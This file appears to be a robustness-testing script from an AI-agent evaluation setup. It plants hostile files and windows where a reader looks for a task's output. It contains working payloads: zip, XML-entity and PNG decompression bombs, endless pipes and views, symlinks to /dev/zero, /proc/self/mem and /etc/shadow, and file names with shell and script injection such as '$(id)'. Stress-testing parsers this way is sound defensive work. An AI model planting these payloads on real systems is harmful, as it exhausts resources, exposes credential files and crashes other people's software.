"""Runs in a desktop as the agent: puts something that breaks readers where a task looks for its result.

`hostile.py KIND PATH`. Prints a line of JSON. Standard library only, except python-xlib for windows.
"""

import json
import os
import sqlite3
import struct
import sys
import time
import zipfile
import zlib

ENDLESS = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS url FROM n"
SECONDS = 120
CELLS = 6_000_000


def deep_json(path):
    """JSON nested 200,000 levels deep."""
    write(path, b"[" * 200_000 + b"]" * 200_000)


def number_json(path):
    """A number of 50,000 digits, NaN, and a lone surrogate."""
    write(path, b'{"a": ' + b"9" * 50_000 + b', "b": NaN, "c": "\\ud800"}')


def folder(path):
    """A folder instead of a file."""
    os.makedirs(path)


def fifo(path):
    """A pipe that nobody writes to."""
    os.mkfifo(path)


def endless_fifo(path):
    """A pipe that never ends."""
    os.mkfifo(path)
    if os.fork() == 0:
        detach()
        while True:
            try:
                with open(path, "wb", buffering=0) as file:
                    while True:
                        file.write(b"x" * 65536)
            except OSError:
                time.sleep(0.01)


def zero(path):
    """A link to a device that never ends."""
    os.symlink("/dev/zero", path)


def memory(path):
    """A link to the reader's own memory."""
    os.symlink("/proc/self/mem", path)


def kernel(path):
    """A link to a kernel file that blocks."""
    os.symlink("/proc/kmsg", path)


def loop(path):
    """A link to itself."""
    os.symlink(path, path)


def sparse(path):
    """A sparse file of terabytes."""
    with open(path, "wb") as file:
        for size in (1 << 42, 1 << 40, 1 << 34):
            try:
                file.truncate(size)
                return
            except OSError:
                continue


def large(path):
    """A sparse file close to the size limit."""
    with open(path, "wb") as file:
        file.truncate(120 << 20)


def growing(path):
    """A file that grows while it is read."""
    write(path, b"x")
    if os.fork() == 0:
        detach()
        with open(path, "ab", buffering=0) as file:
            for _ in range(300):
                file.write(b"x" * (1 << 20))
                time.sleep(0.005)


def swapped(path):
    """Alternately a file and a link to one of root's, thousands of times a second."""
    write(f"{path}.file", b"the agent's own")
    if os.fork() == 0:
        detach()
        while True:
            try:
                os.link(f"{path}.file", f"{path}.a")
                os.rename(f"{path}.a", path)
                os.symlink("/etc/shadow", f"{path}.b")
                os.rename(f"{path}.b", path)
            except OSError:
                for one in (f"{path}.a", f"{path}.b"):
                    if os.path.lexists(one):
                        os.unlink(one)


def deep_folder(path):
    """Folders nested 1,500 levels deep."""
    os.makedirs(path)
    here = os.getcwd()
    os.chdir(path)
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)


def many(path):
    """120,000 files."""
    os.makedirs(path)
    for number in range(120_000):
        os.close(os.open(f"{path}/{number:0200d}", os.O_CREAT | os.O_WRONLY))


def names(path):
    """Names that are not text, or have several lines."""
    os.makedirs(path)
    for name in (b"a\nb", b"\xff\xfe", b"\x1b[2J", b"..\\..\\x", b"C:", b"-rf", b"'\"`$(id)", b"x" * 255,
                 "\u202egnp".encode(), b"\r", b"{}", b"<script>"):  # fmt: skip
        os.close(os.open(path.encode() + b"/" + name, os.O_CREAT | os.O_WRONLY))


def upwards(path):
    """A folder that contains everything, including itself."""
    os.makedirs(path)
    os.symlink("/", f"{path}/up")


def view(path):
    """A database whose table is a view that never ends."""
    with sqlite3.connect(path) as made:
        made.execute(f"CREATE VIEW urls AS {ENDLESS}")


def bomb(path):
    """A small workbook that unpacks to a gigabyte."""
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(sheet)
            for _ in range(1000):
                part.write(b" " * (1 << 20))


def picture(path):
    """A picture of 900 megapixels."""
    size = 30_000

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    squeezed, row = zlib.compressobj(9), b"\0" * (size // 8 + 1)
    data = b"".join(squeezed.compress(row) for _ in range(size)) + squeezed.flush()
    head = struct.pack(">IIBBBBB", size, size, 1, 0, 0, 0, 0)
    write(path, b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def entities(path):
    """XML that expands a billion times."""
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    write(path, f'<!DOCTYPE x [<!ENTITY a0 "ha">{lines}]><x>&a9;</x>'.encode())


def titles(path):
    """Windows whose titles and classes are not text."""
    from Xlib import Xatom, display

    odd = (b"\xff\xfe\0\0", b"\x1b]0;x\x07" * 100, b'","active":true}]' * 10, b"\xed\xa0\x80", b"a\nb\r\0c", b"W" * 200_000,
           "\u202e\u2028".encode())  # fmt: skip
    if os.fork() == 0:
        detach()
        there = display.Display()
        root = there.screen().root
        for title in odd:
            window = root.create_window(10, 10, 100, 100, 0, there.screen().root_depth)
            for name, kind in (("_NET_WM_NAME", there.intern_atom("UTF8_STRING")), ("WM_NAME", Xatom.STRING),
                               ("WM_CLASS", Xatom.STRING), ("_NET_WM_PID", Xatom.CARDINAL)):  # fmt: skip
                window.change_property(there.intern_atom(name), kind, 8, title)
            window.map()
        root.change_property(there.intern_atom("_NET_CLIENT_LIST"), Xatom.WINDOW, 32, [0xFFFFFFFF, 1, 0] * 1000)
        root.change_property(there.intern_atom("_NET_ACTIVE_WINDOW"), Xatom.STRING, 8, b"no window")
        there.sync()
        with open(path, "w", encoding="ascii") as file:
            file.write("done")
        time.sleep(SECONDS)
        os._exit(0)
    end = time.monotonic() + 20
    while not os.path.exists(path) and time.monotonic() < end:
        time.sleep(0.1)


def tree(path):
    """A program with long accessible names that are not text."""
    import gi

    gi.require_version("Gtk", "3.0")
    from gi.repository import GLib, Gtk

    if os.fork() == 0:
        detach()
        window, box = Gtk.Window(title="]]></x><!--"), Gtk.Box()
        for text in ("]]>" * 1000, "\x01\x02\x1b", "&#0;&a9;", "W" * 2_000_000, "<script>", "\ufffe\U0010ffff"):
            button = Gtk.Button()
            button.get_accessible().set_name(text)
            button.get_accessible().set_description(text)
            box.add(button)
        window.add(box)
        window.show_all()
        GLib.timeout_add(1500, lambda: write(path, b"done"))
        GLib.timeout_add(SECONDS * 1000, Gtk.main_quit)
        Gtk.main()
        os._exit(0)
    end = time.monotonic() + 20
    while not os.path.exists(path) and time.monotonic() < end:
        time.sleep(0.1)


def write(path, data):
    with open(path, "wb") as file:
        file.write(data)


def detach():
    """Keep running after the parent has ended."""
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    import signal

    signal.alarm(SECONDS)


KINDS = (deep_json, number_json, folder, fifo, endless_fifo, zero, memory, kernel, loop, sparse, large, growing, swapped,
         deep_folder, many, names, upwards, view, bomb, picture, entities, titles, tree)  # fmt: skip

if __name__ == "__main__":
    {one.__name__: one for one in KINDS}[sys.argv[1]](sys.argv[2])
    print(json.dumps({"ok": True, "said": f"{sys.argv[1]} is there"}))
